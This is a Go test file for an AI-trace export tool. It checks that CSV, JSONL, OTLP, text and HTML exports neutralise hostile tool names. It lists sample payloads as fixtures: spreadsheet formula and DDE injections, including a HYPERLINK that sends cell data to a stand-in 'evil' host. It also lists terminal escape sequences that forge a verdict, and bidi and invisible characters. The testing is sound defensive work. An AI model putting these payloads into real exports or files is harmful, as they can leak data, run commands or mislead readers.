package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	tracepb "go.opentelemetry.io/proto/otlp/trace/v1"
)

// exportAttacks are tool names (and, in the attack fixture, arguments and
// results) aimed at whoever reads an export: the spreadsheet formula shapes
// of OWASP's CSV injection page, terminal escapes (an OSC 8 link, a screen
// clear that forges a verdict, a title change), C1 controls, bidi
// overrides and invisible characters. "-1.5" is the control case: a
// negative number stays a number.
var exportAttacks = []string{
	`=HYPERLINK("http://evil/?"&A1,"open")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"-1.5",
	"\x1b]8;;http://evil/\x07click\x1b]8;;\x07",
	"\x1b[2J\x1b[Hverdict: verified",
	"\x1b]0;pwned\x07title",
	"\u202eexe.tcod",
	"c1\u009b31m nel\u0085 zwsp\u200b bom\ufeff ls\u2028 lri\u2066 del\x7f nul\x00",
}

// unsafeRune reports a character no export may carry raw: C0 controls but
// LF, DEL, C1, bidi controls, format (Cf) characters, line and paragraph
// separators, and invalid UTF-8. It is written out here rather than taken
// from escape.go, so the test does not trust the code it checks.
func unsafeRune(out []byte) (int, string, bool) {
	for i := 0; i < len(out); {
		r, n := utf8.DecodeRune(out[i:])
		switch {
		case r == '\n':
		case r == utf8.RuneError && n == 1:
			return i, "invalid UTF-8", true
		case r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0),
			unicode.Is(unicode.Bidi_Control, r), unicode.Is(unicode.Cf, r),
			unicode.Is(unicode.Zl, r), unicode.Is(unicode.Zp, r):
			return i, fmt.Sprintf("%U", r), true
		}
		i += n
	}
	return 0, "", false
}

func assertNoRaw(t *testing.T, what string, out []byte) {
	t.Helper()
	if i, c, bad := unsafeRune(out); bad {
		t.Errorf("%s: raw %s at byte %d: %q", what, c, i, out[max(0, i-40):min(len(out), i+40)])
	}
}

// formulaCell reports a CSV cell a spreadsheet would evaluate.
func formulaCell(c string) bool {
	if c == "" {
		return false
	}
	switch c[0] {
	case '=', '+', '@', '\t', '\r':
		return true
	case '-':
		var f float64
		_, err := fmt.Sscanf(c, "%g", &f)
		return err != nil || fmt.Sprint(f) != c
	}
	return false
}

func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *updateGolden {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs (go test ./cmd/tracectl -run %s -update-golden rewrites it); got:\n%s", path, t.Name(), got)
	}
}

func runOK(t *testing.T, args ...string) []byte {
	t.Helper()
	out, stderr, code := runCLI(t, args...)
	if code != 0 {
		t.Fatalf("%v: exit %d: %s", args, code, stderr)
	}
	assertNoRaw(t, strings.Join(args[:2], " ")+" stderr", stderr)
	return out
}

// TestExportHostileGolden exports the attack fixture in every format: the
// output is golden, holds no raw control, bidi or invisible character, no
// CSV cell is a formula, and what can carry the exact value (JSON text)
// still parses back to it.
func TestExportHostileGolden(t *testing.T) {
	bundle := fixtureDir(t, "attack")

	t.Run("csv", func(t *testing.T) {
		out := runOK(t, "export", "--format", "csv", "--include-arguments", bundle)
		checkGolden(t, "attack-export.csv.golden", out)
		assertNoRaw(t, "csv", out)
		recs, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) != 1+len(exportAttacks) {
			t.Fatalf("%d rows, want %d", len(recs), 1+len(exportAttacks))
		}
		for i, row := range recs {
			for j, c := range row {
				if formulaCell(c) {
					t.Errorf("row %d column %s is a formula: %q", i, recs[0][j], c)
				}
			}
		}
		tool, args := slices.Index(recs[0], "tool"), slices.Index(recs[0], "arguments")
		for want, row := range map[string][]string{
			`'=HYPERLINK("http://evil/?"&A1,"open")`: recs[1],
			`'-2+3+cmd|' /C calc'!A0`:                recs[3],
			`\t=1+1`:                                 recs[5],
			"-1.5":                                   recs[7],
			`\u202eexe.tcod`:                         recs[11],
		} {
			if row[tool] != want {
				t.Errorf("tool cell %q, want %q", row[tool], want)
			}
		}
		for i, name := range exportAttacks {
			var a map[string]string
			if err := json.Unmarshal([]byte(recs[i+1][args]), &a); err != nil || a["q"] != name {
				t.Errorf("row %d arguments %q (%v): want JSON whose q is %q", i+1, recs[i+1][args], err, name)
			}
		}
	})

	t.Run("jsonl", func(t *testing.T) {
		out := runOK(t, "export", "--format", "jsonl", "--include-arguments", bundle)
		checkGolden(t, "attack-export.jsonl.golden", out)
		assertNoRaw(t, "jsonl", out)
		lines := bytes.Split(bytes.TrimSuffix(out, []byte("\n")), []byte("\n"))
		if len(lines) != len(exportAttacks) {
			t.Fatalf("%d lines, want %d", len(lines), len(exportAttacks))
		}
		for i, l := range lines {
			var r struct {
				Tool      string            `json:"tool"`
				Arguments map[string]string `json:"arguments"`
			}
			if err := json.Unmarshal(l, &r); err != nil || r.Tool != exportAttacks[i] || r.Arguments["q"] != exportAttacks[i] {
				t.Errorf("line %d: tool %q arguments %v (%v), want %q", i+1, r.Tool, r.Arguments, err, exportAttacks[i])
			}
		}
	})

	t.Run("otlp", func(t *testing.T) {
		rcv := &otlpReceiver{}
		srv := httptest.NewServer(rcv)
		runOK(t, "export", "--format", "otlp", "--include-arguments", "--endpoint", srv.URL, bundle)
		srv.Close()
		if len(rcv.spans) != len(exportAttacks)+1 {
			t.Fatalf("%d spans, want %d (the session's and one per attempt)", len(rcv.spans), len(exportAttacks)+1)
		}
		// The golden holds what a trace viewer shows of the attempts,
		// without their ids.
		byID := map[string]*tracepb.Span{}
		for _, s := range rcv.spans {
			id, ok := attrs(s)["tracectl.attempt_id"]
			if !ok {
				assertNoRaw(t, "session span name", []byte(s.Name))
				for _, kv := range s.Attributes {
					assertNoRaw(t, "session attribute "+kv.Key, []byte(kv.Value.GetStringValue()))
				}
			}
			byID[id] = s
		}
		var text bytes.Buffer
		for i := range exportAttacks {
			s := byID[fmt.Sprintf("a%d", i+1)]
			if s == nil {
				t.Fatalf("no span for a%d", i+1)
			}
			fmt.Fprintf(&text, "span %s\n  status: %s\n", s.Name, s.Status.GetMessage())
			a := attrs(s)
			for _, k := range slices.Sorted(func(yield func(string) bool) {
				for k := range a {
					if !yield(k) {
						return
					}
				}
			}) {
				fmt.Fprintf(&text, "  %s: %s\n", k, a[k])
			}
		}
		checkGolden(t, "attack-export.otlp.golden", text.Bytes())
		for i, name := range exportAttacks {
			s := byID[fmt.Sprintf("a%d", i+1)]
			assertNoRaw(t, "span name", []byte(s.Name))
			assertNoRaw(t, "span status", []byte(s.Status.GetMessage()))
			for _, kv := range s.Attributes {
				assertNoRaw(t, "attribute "+kv.Key, []byte(kv.Value.GetStringValue()))
			}
			var args map[string]string
			if err := json.Unmarshal([]byte(attrs(s)["gen_ai.tool.call.arguments"]), &args); err != nil || args["q"] != name {
				t.Errorf("a%d arguments %q (%v): want JSON whose q is %q", i+1, attrs(s)["gen_ai.tool.call.arguments"], err, name)
			}
		}
		if got, want := byID["a11"].Name, `tools/call \u202eexe.tcod`; got != want {
			t.Errorf("span name %q, want %q", got, want)
		}
		if got, want := attrs(byID["a8"])["gen_ai.tool.name"], `\x1b]8;;http://evil/\aclick\x1b]8;;\a`; got != want {
			t.Errorf("gen_ai.tool.name %q, want %q", got, want)
		}
	})

	// Metric attributes are the spans', escaped as they are: a hostile
	// tool name reaches a dashboard's legend as escapes.
	t.Run("otlp-metrics", func(t *testing.T) {
		rcv := &otlpReceiver{}
		srv := httptest.NewServer(rcv)
		runOK(t, "export", "--format", "otlp", "--signals", "metrics", "--endpoint", srv.URL, bundle)
		srv.Close()
		tools := map[string]bool{}
		for _, m := range rcv.metrics {
			for k, v := range m.resource {
				assertNoRaw(t, "resource "+k, []byte(v))
			}
			for _, p := range m.GetHistogram().GetDataPoints() {
				for k, v := range pointAttrs(p) {
					assertNoRaw(t, m.Name+" "+k, []byte(v))
				}
				tools[pointAttrs(p)["gen_ai.tool.name"]] = true
			}
		}
		for _, want := range []string{`\u202eexe.tcod`, `\x1b]8;;http://evil/\aclick\x1b]8;;\a`} {
			if !tools[want] {
				t.Errorf("no point with gen_ai.tool.name %q among %v", want, tools)
			}
		}
	})

	t.Run("text", func(t *testing.T) {
		out := runOK(t, "show", bundle)
		out = append(out, runOK(t, "show", "--attempt", "a8", bundle)...)
		assertNoRaw(t, "show", out)
		checkGolden(t, "attack-show.golden", bytes.ReplaceAll(out, []byte(bundle), []byte("BUNDLE")))
	})

	t.Run("html", func(t *testing.T) {
		path := filepath.Join(t.TempDir(), "report.html")
		runOK(t, "report", "--out", path, bundle)
		page := readFileT(t, path)
		assertNoRaw(t, "report", page)
		for _, want := range []string{`=HYPERLINK(&#34;http://evil/?&#34;&amp;A1,&#34;open&#34;)`, `\u202eexe.tcod`, `\x1b]8;;http://evil/`} {
			if !bytes.Contains(page, []byte(want)) {
				t.Errorf("report lacks %q", want)
			}
		}
		for _, bad := range []string{"\x1b", "\u202e", `"http://evil/?"`, "<img"} {
			if bytes.Contains(page, []byte(bad)) {
				t.Errorf("report holds %q", bad)
			}
		}
	})
}

// TestCSVCell: the OWASP rule, cell by cell.
func TestCSVCell(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"echo", "echo"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"-x", "'-x"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"-1.", "'-1."},
		{"-1e", "'-1e"},
		{"-32602", "-32602"},
		{"-1.5", "-1.5"},
		{"-1e-7", "-1e-7"},
		{"-2E+10", "-2E+10"},
		{"a=1", "a=1"},
		{"'=1", "'=1"},
	} {
		if got := csvCell(tt.in); got != tt.want {
			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
